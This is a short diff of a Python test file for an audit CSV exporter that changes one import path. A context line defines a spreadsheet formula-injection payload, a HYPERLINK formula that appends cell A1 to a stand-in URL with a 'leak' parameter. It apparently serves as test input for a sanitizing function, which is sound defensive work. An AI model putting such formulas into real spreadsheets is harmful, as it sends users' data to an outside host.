@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from services.audit.export import COLUMNS, write_csv
+from services.audit.library.export import COLUMNS, write_csv
 from services.infra.spreadsheet import spreadsheet_safe
 
 HYPERLINK = '=HYPERLINK("https://example.org/?leak="&A1,"open")'
